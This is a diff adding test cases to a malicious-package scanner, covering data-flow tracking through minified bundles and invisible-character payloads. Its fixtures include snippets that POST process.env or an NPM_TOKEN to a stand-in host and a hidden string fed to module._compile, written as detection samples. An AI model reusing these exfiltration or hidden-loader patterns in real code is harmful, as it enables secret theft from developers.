@@ -46,6 +46,51 @@ describe('data flow', () => {
   });
 });
 
+describe('data flow by binding, not by name', () => {
+  // The shape of a minified bundle: every function calls its variables e, t, n; one of them reads the environment,
+  // an unrelated one sends a request. Keyed by name, `t` was one variable and the bundle an exfiltration.
+  const bundle = (sendBody: string) =>
+    `!function(){function a(e){var t=process.env;return Object.keys(t).length+e}` +
+    `function b(e,t){return fetch("https://api.example.invalid/v1",{method:"POST",body:${sendBody}})}` +
+    `function c(n){var t=n.map(function(t){return t*2});return b(0,t)}module.exports={a:a,c:c}}();\n`;
+  it('does not join variables of different functions that share a one-letter name', () => {
+    const r = scan({ 'dist/bundle.min.js': bundle('JSON.stringify(t)') });
+    assert.ok(!rules(r).has('data-flow-exfiltration'));
+    assert.equal(r.verdict, 'clean');
+  });
+  it('still follows a source into a closure that sends it', () => {
+    const r = scan({
+      'dist/bundle.min.js': `!function(){function a(){var t=process.env;return function(e){return fetch(e,{method:"POST",body:JSON.stringify(t)})}}module.exports=a}();\n`,
+    });
+    assert.ok(rules(r).has('data-flow-exfiltration'));
+    assert.notEqual(r.verdict, 'clean');
+  });
+  it('keeps block-scoped names apart and follows a block-scoped source', () => {
+    const apart = scan({
+      'index.js': `{ let t = process.env; module.exports = Object.keys(t); }\n{ let t = [1, 2]; fetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify(t) }); }\n`,
+    });
+    assert.ok(!rules(apart).has('data-flow-exfiltration'));
+    const joined = scan({
+      'index.js': `{ let t = process.env; fetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify(t) }); }\n`,
+    });
+    assert.ok(rules(joined).has('data-flow-exfiltration'));
+  });
+  it('reads process.env under another name like process.env: a setting is not the environment, a token is a secret', () => {
+    const setting = scan({
+      'index.js': `var e = process.env;\nvar p = e.HTTPS_PROXY || e.https_proxy;\nconst { NODE_OPTIONS } = process.env;\nfetch('https://x.example.invalid/?p=' + p + NODE_OPTIONS);\n`,
+    });
+    assert.ok(!rules(setting).has('data-flow-exfiltration') && !rules(setting).has('data-flow-secret'));
+    const secret = scan({
+      'index.js': `const { NPM_TOKEN: t } = process.env;\nfetch('https://x.example.invalid/', { method: 'POST', body: t });\n`,
+    });
+    assert.ok(rules(secret).has('data-flow-secret'));
+    const whole = scan({
+      'index.js': `var e = process.env;\nfetch('https://x.example.invalid/', { method: 'POST', body: JSON.stringify(e) });\n`,
+    });
+    assert.ok(rules(whole).has('data-flow-exfiltration'));
+  });
+});
+
 describe('install-time commands', () => {
   it('follows npm run from a lifecycle script to the script it names', () => {
     const r = scan(
@@ -99,6 +144,19 @@ describe('hidden payloads', () => {
     assert.ok(rules(r).has('invisible-characters') && rules(r).has('invisible-payload-eval'));
     const honest = scan({ 'index.js': `module.exports = 'family: 👨\u200d👩\u200d👧';\n` });
     assert.ok(!rules(honest).has('invisible-characters'));
+  });
+  it('weighs an invisible run that nothing evaluates as data, and one run through module._compile as a payload', () => {
+    const run = [...'abcdefgh'.repeat(8)].map((c) => String.fromCodePoint(0xe000 + c.charCodeAt(0))).join('');
+    const table = scan({
+      'dist/cptable.js': `var t = '${run}';\nmodule.exports = (i) => String.fromCharCode(t.charCodeAt(i) - 0xe000);\n`,
+    });
+    assert.ok(table.findings.some((f) => f.rule === 'invisible-characters' && f.weight <= 1));
+    assert.equal(table.verdict, 'clean');
+    const compiled = scan({
+      'index.js': `const s = '${run}';\nmodule._compile([...s].map((c) => String.fromCharCode(c.codePointAt(0) - 0xe000)).join(''), __filename);\n`,
+    });
+    assert.ok(rules(compiled).has('invisible-payload-eval'));
+    assert.notEqual(compiled.verdict, 'clean');
   });
   it('flags evaluating what a file read from an image of its own', () => {
     const r = scan({
